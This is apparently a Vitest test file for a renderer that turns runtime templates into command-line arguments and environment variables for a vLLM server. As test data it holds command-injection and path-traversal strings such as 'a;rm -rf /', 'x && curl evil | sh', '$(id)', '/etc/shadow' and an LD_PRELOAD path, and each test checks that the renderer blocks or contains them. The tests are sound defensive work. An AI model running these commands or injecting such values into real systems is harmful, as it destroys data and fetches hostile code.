import { describe, expect, it } from 'vitest';
import { RuntimeTemplateSpec, type TemplateParam } from '../../shared/contracts/runtime-template.js';
import { paramValueProblem, placeholdersIn, renderArgs, renderEnv, tokenizeArg, type ParamValue } from '../../functions/core/registry/render.js';

const SHA = 'a'.repeat(64);

/** A template as an admin would register it (through the contract, so its defaults apply). */
const template = (over: Record<string, unknown> = {}) =>
  RuntimeTemplateSpec.parse({
    executable: '/opt/vllm/bin/vllm',
    executableSha256: SHA,
    args: [
      'serve',
      '{model_path}',
      '--served-model-name',
      '{served_name}',
      '--port',
      '{port}',
      '--dtype',
      '{dtype}',
      '--max-model-len={max_model_len}',
      '--gpu-memory-utilization',
      '{gpu_util}',
      '{enforce_eager}',
      '--trust={trust}',
    ],
    params: {
      dtype: { type: 'string', pattern: '^(auto|half|bfloat16)$', default: 'auto' },
      max_model_len: { type: 'integer', min: 256, max: 131072 },
      gpu_util: { type: 'number', min: 0.1, max: 0.95, default: 0.9 },
      enforce_eager: { type: 'boolean', flag: '--enforce-eager', default: false },
      trust: { type: 'boolean', default: false },
    },
    env: ['HF_TOKEN', 'VLLM_LOGGING_LEVEL'],
    ...over,
  });

const render = (params: Record<string, ParamValue>, over: Record<string, unknown> = {}) => renderArgs(template(over), params);
const issues = (params: Record<string, ParamValue>, over: Record<string, unknown> = {}) => {
  const result = render(params, over);
  if (result.ok) throw new Error(`rendered: ${JSON.stringify(result.value)}`);
  return result.issues;
};
const argsOf = (params: Record<string, ParamValue>, over: Record<string, unknown> = {}) => {
  const result = render(params, over);
  if (!result.ok) throw new Error(JSON.stringify(result.issues));
  return result.value;
};

describe('tokenizing an argument', () => {
  it('splits literal text and {name} placeholders; other braces stay literal', () => {
    expect(tokenizeArg('--port={port}')).toEqual([{ literal: '--port=' }, { placeholder: 'port' }]);
    expect(tokenizeArg('{a}{b}')).toEqual([{ placeholder: 'a' }, { placeholder: 'b' }]);
    expect(tokenizeArg('{"temperature":0.5}')).toEqual([{ literal: '{"temperature":0.5}' }]);
    expect(tokenizeArg('{Port} {1x} {}')).toEqual([{ literal: '{Port} {1x} {}' }]);
    expect(tokenizeArg('')).toEqual([]);
    expect(placeholdersIn('x{port}y{model_path}')).toEqual(['port', 'model_path']);
  });
});

describe('rendering a template', () => {
  it('fills params, applies defaults, and leaves agent placeholders for the agent', () => {
    expect(argsOf({ max_model_len: 8192 })).toEqual([
      'serve',
      '{model_path}',
      '--served-model-name',
      '{served_name}',
      '--port',
      '{port}',
      '--dtype',
      'auto',
      '--max-model-len=8192',
      '--gpu-memory-utilization',
      '0.9',
      '--trust=false',
    ]);
  });

  it('a boolean flag param becomes its flag when true, no argument when false; a plain boolean is written out', () => {
    const on = argsOf({ max_model_len: 8192, enforce_eager: true, trust: true });
    expect(on).toContain('--enforce-eager');
    expect(on).toContain('--trust=true');
    expect(argsOf({ max_model_len: 8192, enforce_eager: false })).not.toContain('--enforce-eager');
  });

  it('every value stays inside its own argv element', () => {
    const permissive = {
      params: { dtype: { type: 'string', pattern: '^[^\\n]*$' }, max_model_len: { type: 'integer' } },
      args: ['--dtype', '{dtype}', '--len={max_model_len}'],
    };
    for (const value of ['a --trust-remote-code', '$(id)', '`id`', 'a;rm -rf /', 'x && curl evil | sh', '\'"', 'a b c', '../../etc/passwd']) {
      const args = argsOf({ dtype: value, max_model_len: 1 }, permissive);
      expect(args).toEqual(['--dtype', value, '--len=1']);
    }
  });

  it('the default pattern refuses shell syntax, spaces and options', () => {
    const plain = { params: { model: { type: 'string' } }, args: ['--model', '{model}'] };
    expect(argsOf({ model: 'meta-llama/Llama-3.1-8B-Instruct:v1.0' }, plain)).toEqual(['--model', 'meta-llama/Llama-3.1-8B-Instruct:v1.0']);
    for (const value of ['a --trust-remote-code', '$(id)', 'a;b', 'a|b', '', 'x'.repeat(201), 'é']) {
      expect(issues({ model: value }, plain)[0]).toMatchObject({ path: 'runtime.params.model' });
    }
  });

  it('the default pattern refuses an absolute path and any ".." segment; a declared pattern may take paths (I-7)', () => {
    const plain = { params: { model: { type: 'string' } }, args: ['--model', '{model}'] };
    for (const value of ['org/model', 'hf:org/model-1.5', 'v1..2', '..hidden', 'a/..b', 'models/./x'])
      expect(argsOf({ model: value }, plain)).toEqual(['--model', value]);
    for (const value of ['/etc/shadow', '/', '..', '../x', 'a/../../b', 'a/..']) {
      expect(issues({ model: value }, plain)[0], value).toMatchObject({ path: 'runtime.params.model' });
    }
    const paths = { params: { model: { type: 'string', pattern: '^/srv/models/[a-z0-9-]+$' } }, args: ['--model', '{model}'] };
    expect(argsOf({ model: '/srv/models/llama-3' }, paths)).toEqual(['--model', '/srv/models/llama-3']);
  });

  it('refuses control characters whatever the pattern allows: NUL, newline, carriage return, tab, escape', () => {
    const anything = { params: { v: { type: 'string', pattern: '^[\\s\\S]*$' } }, args: ['{v}'] };
    for (const value of ['a\0b', 'a\nb', 'a\r\nb', 'a\tb', '\u001b[31m', 'a\u007f']) {
      expect(issues({ v: value }, anything)).toEqual([
        { path: 'runtime.params.v', message: 'param "v" must not contain control characters (NUL, newline, tab...)' },
      ]);
    }
  });

  it('refuses a string value that starts with "-": it would read as an option', () => {
    const anything = { params: { v: { type: 'string', pattern: '^.*$' } }, args: ['{v}'] };
    expect(issues({ v: '--trust-remote-code' }, anything)[0]!.message).toBe('param "v" must not start with "-" (it would read as an option)');
    expect(issues({ v: '-x' }, anything)[0]!.path).toBe('runtime.params.v');
    expect(argsOf({ v: 'a-b' }, anything)).toEqual(['a-b']);
  });

  it('refuses a value holding a placeholder, so the agent never fills one an operator wrote', () => {
    const anything = { params: { v: { type: 'string', pattern: '^.*$' } }, args: ['--x={v}'] };
    for (const value of ['{port}', 'a{model_path}', '{v}', '{anything}']) {
      expect(issues({ v: value }, anything)[0]!.message).toMatch(/must not contain a placeholder/);
    }
  });

  it("refuses a value that spells a placeholder with the template's own braces", () => {
    const braces = { params: { v: { type: 'string', pattern: '^[a-z0-9{}]*$' } }, args: ['{{v}}'] };
    expect(issues({ v: 'port' }, braces)).toEqual([{ path: 'args.0', message: 'argument 0 would hold a placeholder no template wrote: {port}' }]);
    const half = { params: { v: { type: 'string', pattern: '^[a-z{}]*$' } }, args: ['{v}rt}'] };
    expect(issues({ v: '{po' }, half)[0]!.path).toBe('args.0');
    // Any {identifier} counts, agent placeholder or not; braces that form none are text.
    expect(issues({ v: 'x' }, braces)[0]!.path).toBe('args.0');
    expect(argsOf({ v: '1x' }, braces)).toEqual(['{1x}']);
  });

  it('refuses unknown params, naming them and what the template declares', () => {
    expect(issues({ max_model_len: 8192, command: '/bin/sh' })).toEqual([
      { path: 'runtime.params.command', message: 'unknown param "command": the template declares dtype, enforce_eager, gpu_util, max_model_len, trust' },
    ]);
  });

  it('refuses a missing param without a default, naming it', () => {
    expect(issues({})).toEqual([{ path: 'runtime.params.max_model_len', message: 'missing param "max_model_len" (the template gives it no default)' }]);
  });

  it('reports every problem at once', () => {
    expect(issues({ dtype: 'fp8', extra: 1 }).map((i) => i.path)).toEqual(['runtime.params.extra', 'runtime.params.dtype', 'runtime.params.max_model_len']);
  });

  it('an argument too long once rendered is refused', () => {
    const long = { params: { v: { type: 'string', pattern: '^[a-z]*$' } }, args: ['{v}{v}{v}{v}{v}'] };
    expect(argsOf({ v: 'y'.repeat(819) }, long)[0]).toHaveLength(4095);
    expect(issues({ v: 'y'.repeat(820) }, long)).toEqual([{ path: 'args.0', message: 'argument 0 is 4100 characters once rendered (at most 4096)' }]);
  });

  it('a value can never add or remove an element: the argv has one element per template argument', () => {
    const permissive = { params: { v: { type: 'string', pattern: '^[^-].*$' } }, args: ['a', '{v}', 'b={v}'] };
    for (const value of ['x y z', 'x\u00a0y', 'x" "y', "x' 'y", 'x\\ y']) expect(argsOf({ v: value }, permissive)).toHaveLength(3);
  });
});

describe('param types', () => {
  const str: TemplateParam = { type: 'string', pattern: '^[a-z]{1,4}$' };
  const int: TemplateParam = { type: 'integer', min: 1, max: 8 };
  const num: TemplateParam = { type: 'number', min: 0, max: 1 };
  const bool: TemplateParam = { type: 'boolean' };

  it('string: a string matching its pattern in full', () => {
    expect(paramValueProblem(str, 'abcd')).toBeNull();
    expect(paramValueProblem(str, 'abcde')).toBe('must match ^[a-z]{1,4}$');
    expect(paramValueProblem(str, 'ab\ncd')).toMatch(/control characters/);
    expect(paramValueProblem(str, 3)).toBe('must be a string, not number');
    expect(paramValueProblem(str, true)).toBe('must be a string, not boolean');
  });

  it('string: an unanchored alternation still has to match the whole value', () => {
    const loose: TemplateParam = { type: 'string', pattern: '^a|b$' };
    expect(paramValueProblem(loose, 'a')).toBeNull();
    expect(paramValueProblem(loose, 'b')).toBeNull();
    expect(paramValueProblem(loose, 'a; rm -rf')).toBe('must match ^a|b$');
    expect(paramValueProblem(loose, 'xb')).toBe('must match ^a|b$');
  });

  it('integer: a safe integer within min and max, inclusive', () => {
    expect(paramValueProblem(int, 1)).toBeNull();
    expect(paramValueProblem(int, 8)).toBeNull();
    expect(paramValueProblem(int, 0)).toBe('must be between 1 and 8, not 0');
    expect(paramValueProblem(int, 9)).toBe('must be between 1 and 8, not 9');
    expect(paramValueProblem(int, 2.5)).toBe('must be an integer, not 2.5');
    expect(paramValueProblem(int, '4')).toBe('must be an integer, not "4"');
    expect(paramValueProblem(int, Number.NaN)).toMatch(/must be an integer/);
    expect(paramValueProblem({ ...int, max: 2 ** 60 }, 2 ** 60)).toMatch(/must be an integer/);
  });

  it('number: a finite number within min and max, inclusive', () => {
    expect(paramValueProblem(num, 0)).toBeNull();
    expect(paramValueProblem(num, 0.95)).toBeNull();
    expect(paramValueProblem(num, 1)).toBeNull();
    expect(paramValueProblem(num, 1.0001)).toBe('must be between 0 and 1, not 1.0001');
    expect(paramValueProblem(num, -0.1)).toBe('must be between 0 and 1, not -0.1');
    expect(paramValueProblem(num, Number.POSITIVE_INFINITY)).toMatch(/must be a number/);
    expect(paramValueProblem(num, '0.5')).toBe('must be a number, not "0.5"');
  });

  it('boolean: true or false only', () => {
    expect(paramValueProblem(bool, true)).toBeNull();
    expect(paramValueProblem(bool, false)).toBeNull();
    expect(paramValueProblem(bool, 'true')).toBe('must be true or false, not "true"');
    expect(paramValueProblem(bool, 1)).toBe('must be true or false, not 1');
  });

  it('numbers render as JavaScript writes them, negative ones included', () => {
    const signed = { params: { n: { type: 'integer', min: -1, max: 999 }, f: { type: 'number', min: -1, max: 1 } }, args: ['{n}', '--f={f}'] };
    expect(argsOf({ n: -1, f: 0.25 }, signed)).toEqual(['-1', '--f=0.25']);
  });

  it('a given value replaces the default; a default that is given explicitly is the same argv', () => {
    expect(argsOf({ max_model_len: 512, dtype: 'half' })).toContain('half');
    expect(argsOf({ max_model_len: 512, dtype: 'auto' })).toEqual(argsOf({ max_model_len: 512 }));
  });
});

describe('rendering the environment', () => {
  it('passes the names the template allows: plain values and secret references apart', () => {
    expect(renderEnv(template(), { HF_TOKEN: { secret: 'hf-token' }, VLLM_LOGGING_LEVEL: { value: 'DEBUG' } })).toEqual({
      ok: true,
      value: { plain: { VLLM_LOGGING_LEVEL: 'DEBUG' }, secrets: { HF_TOKEN: 'hf-token' } },
    });
    expect(renderEnv(template(), {})).toEqual({ ok: true, value: { plain: {}, secrets: {} } });
  });

  it('refuses a name the template does not allow, naming what it allows', () => {
    expect(renderEnv(template(), { LD_PRELOAD: { value: '/tmp/evil.so' } })).toEqual({
      ok: false,
      issues: [
        { path: 'runtime.env.LD_PRELOAD', message: 'environment variable LD_PRELOAD is not one the template allows (it allows HF_TOKEN, VLLM_LOGGING_LEVEL)' },
      ],
    });
    expect(renderEnv(template({ env: [] }), { HF_TOKEN: { value: 'x' } })).toMatchObject({
      ok: false,
      issues: [{ message: expect.stringContaining('(it allows none)') }],
    });
  });

  it('refuses NUL in a value', () => {
    expect(renderEnv(template(), { VLLM_LOGGING_LEVEL: { value: 'a\0b' } })).toMatchObject({ ok: false, issues: [{ path: 'runtime.env.VLLM_LOGGING_LEVEL' }] });
  });
});
